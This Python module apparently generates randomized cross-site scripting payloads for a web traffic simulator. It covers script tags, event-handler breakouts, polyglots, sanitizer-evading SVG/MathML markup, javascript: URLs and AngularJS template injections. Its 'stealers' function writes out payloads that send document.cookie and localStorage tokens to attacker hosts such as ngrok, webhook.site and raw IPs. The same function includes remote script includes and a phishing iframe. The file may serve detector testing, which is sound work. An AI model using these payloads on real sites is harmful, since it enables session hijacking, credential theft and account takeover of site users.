"""Cross-site scripting by tools and by hand.

Sources: PortSwigger's XSS cheat sheet (event handlers, tags), OWASP's filter-evasion sheet, dalfox and XSStrike (canaries,
breakouts), reports of cookie stealers in honeypots, 0xSobky's polyglot and its kin.
"""

# fmt: off
# Declarations read better a line each than an element each.
from __future__ import annotations

from random import Random

from simulator.payloads import wire
from simulator.payloads.aim import Aim, Shot
from simulator.web.words import identifier


def _call(rng: Random) -> str:
    return rng.choice((
        f"alert({rng.choice(('1', str(rng.randrange(2, 9999)), 'document.domain', 'document.cookie', 'origin', chr(39) + 'xss' + chr(39)))})",
        f"prompt({rng.randrange(1, 99)})", "confirm(1)", "alert`1`", "print()", f"console.log('{identifier(rng, 5)}')",
        f"alert('{identifier(rng, 6)}')",
    ))


def script_tags(rng: Random, aim: Aim) -> Shot:
    """The first thing everybody types."""
    call = _call(rng)
    text = rng.choice((
        f"<script>{call}</script>", f"\"><script>{call}</script>", f"'><script>{call}</script>", f"</title><script>{call}</script>",
        f"</textarea><script>{call}</script>", f"<ScRiPt>{call}</sCrIpT>", f"<script >{call}</script >",
        f"<script src=//{identifier(rng, 7)}.xss.ht></script>", f"';{call};//", f"\"-{call}-\"", f"<scr<script>ipt>{call}</scr</script>ipt>",
        f"<script/x>{call}</script/x>", f"--><script>{call}</script>", f"</script><script>{call}</script>",
    ))
    return aim.query(rng, rng.choice((wire.browser, wire.browser, wire.library))(rng, text), "text")


def handlers(rng: Random, aim: Aim) -> Shot:
    """A canary, then a breakout from where it was reflected, then a tag with a handler."""
    canary = rng.choice(("dalfox", "xsstrike", "v3dm0s", "st4r7s")) if rng.random() < 0.3 else identifier(rng, 6)
    if rng.random() < 0.2:
        return aim.query(rng, wire.library(rng, canary + "'\"<>();{}`"), "text")
    call = _call(rng)
    tag, handler = rng.choice((("img src=x", "onerror"), ("img src", "onerror"), ("body", "onload"), ("input autofocus", "onfocus"),
        ("video src=_", "onerror"), ("audio src=1", "onerror"), ("marquee", "onstart"), ("iframe", "onload"), ("select autofocus", "onfocus"),
        ("a href=#", "onmouseover"), ("d3v", "onpointerenter"), ("button", "onclick")))
    breakout = rng.choice(("", "\">", "'>", "\"/>", "</title>", "-->", "\"></select>", "'\"", "</noscript>"))
    gap = rng.choice((" ", "/", "%09", "\n", "%0c", " "))
    text = rng.choice((f"{breakout}<{tag}{gap}{handler}={call}>",
        f"{breakout}<{wire.mixed_case(rng, tag)}{gap}{wire.mixed_case(rng, handler)}={call} class={canary}>", f"\" {handler}={call} x=\"",
        f"' {handler}='{call}", f"{canary}{breakout}<{tag} {handler}=\"{call}\"//"))
    return aim.query(rng, rng.choice((wire.library, wire.library, wire.form, wire.twice))(rng, text), "text")


def stealers(rng: Random, aim: Aim) -> Shot:
    """Not a test but the theft: cookies and pages sent home, sometimes through the referer into an admin's log viewer."""
    home = rng.choice((f"{rng.randrange(5, 220)}.{rng.randrange(1, 250)}.{rng.randrange(1, 250)}.{rng.randrange(1, 250)}:{rng.choice((80, 8000, 8888, 1337))}",
        f"{identifier(rng, 8)}.ngrok.io", f"webhook.site/{identifier(rng, 8, '0123456789abcdef')}", f"{identifier(rng, 10)}.burpcollaborator.net",
        f"{identifier(rng, 5)}.000webhostapp.com"))
    text = rng.choice((
        f"<script>document.location='http://{home}/c.php?c='+document.cookie</script>",
        f"<script>new Image().src='//{home}/?'+document.cookie;</script>", f"<img src=x onerror=this.src='http://{home}/?c='+document.cookie>",
        f"<script>fetch('https://{home}/?k='+btoa(localStorage.token))</script>",
        f"\"><script src=https://{home}/j.js></script>", f"<iframe src=http://{home}/login.html width=100% height=900></iframe>",
        f"<base href=//{home}/>", f"<script>var i=document.createElement('script');i.src='//{home}';document.body.append(i)</script>",
        f"<meta http-equiv=refresh content='0;url=//{home}'>",
    ))
    if rng.random() < 0.25:
        return aim.referer(rng, f"https://{home}/{text}" if rng.random() < 0.4 else text)
    return aim.query(rng, wire.browser(rng, text), "text")


def polyglots(rng: Random, aim: Aim) -> Shot:
    """One text for many contexts, in parameter, path or user agent."""
    call = _call(rng)
    text = rng.choice((
        f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={call} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={call}//>\\x3e",
        f"'\">><marquee><img src=x onerror={call}></marquee>\"></plaintext\\></|\\><plaintext/onmouseover={call}>",
        f"\">'><details/open/ontoggle={call}>", "-->'\"/></sCript><deTailS open x=\">\" ontoggle=(co\\u006efirm)``>", f"'-{call}-'\"-{call}-\"",
        f"</script>\"><img/src=x onerror={call}>'//",
        f"javascript://'/</title></style></textarea></script>--><p\" onclick={call}//>*/{call}/*",
    ))
    draw = rng.random()
    if draw < 0.2:
        return aim.agent(rng, f"Mozilla/5.0 {text}")
    if draw < 0.4:
        return aim.path(rng, wire.library(rng, text))
    return aim.query(rng, rng.choice((wire.library, wire.scattered, wire.lower_hex))(rng, text), "text")


def mutations(rng: Random, aim: Aim) -> Shot:
    """Markup that sanitizers misread: SVG, MathML, entities, escapes of JavaScript, full-width brackets."""
    call = _call(rng)
    entities = "".join(f"&#{ord(c)};" if rng.random() < 0.5 else f"&#x{ord(c):x};" for c in "javascript:")
    escaped = call.replace("alert", rng.choice(("\\u0061lert", "al\\u0065rt", "top['al'+'ert']", "self[`al`+`ert`]", "(0,eval)('al'+'ert')",
        "window['\\x61lert']")))
    text = rng.choice((
        f"<svg onload={escaped}>", f"<svg><animate onbegin={escaped} attributeName=x dur=1s>", f"<svg><script>{escaped}</script></svg>",
        f"<math><mtext></form><form><mglyph><style></math><img src onerror={escaped}>",
        f"<svg><a xlink:href=\"{entities}{call}\"><text x=20 y=20>x</text></a>",
        f"<noscript><p title=\"</noscript><img src=x onerror={escaped}>\">", f"<x/onclick={escaped}>{identifier(rng, 4)}",
        "<svg/onload=&#97&#108&#101rt(1)>",
        f"<style>@keyframes {identifier(rng, 3)}{{}}</style><p style=\"animation-name:{identifier(rng, 3)}\" onanimationstart={escaped}>",
        f"<iframe srcdoc='&lt;script&gt;{call}&lt;/script&gt;'>", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    ))
    return aim.query(rng, rng.choice((wire.library, wire.fullwidth, wire.iis_unicode, wire.everything, wire.twice))(rng, text), "text")


def script_addresses(rng: Random, aim: Aim) -> Shot:
    """No tag at all: javascript: and data: addresses for parameters that become links, and template sinks of the DOM."""
    call = _call(rng)
    text = rng.choice((
        f"javascript:{call}", f"JaVaScRiPt:{call}//", f"java\tscript:{call}", f"javascript:void({call})", f"data:text/html,<script>{call}</script>",
        f"data:text/html;base64,{identifier(rng, 28)}", f"vbscript:msgbox({rng.randrange(9)})", f"//{identifier(rng, 7)}.tld/%2f..",
        f"javascript:eval(atob('{identifier(rng, 16)}'))",
        f"{{{{constructor.constructor('{call}')()}}}}", f"{{{{$on.constructor('{call}')()}}}}", f"{{{{[].pop.constructor&#40'{call}'&#41&#40&#41}}}}",
        f"x\"ng-focus=$event.view.{call} id=p ng-app", f"javascript:fetch('//{identifier(rng, 6)}.oast.me/'+document.cookie)",
    ))
    return aim.query(rng, rng.choice((wire.browser, wire.library, wire.curl))(rng, text), "url")
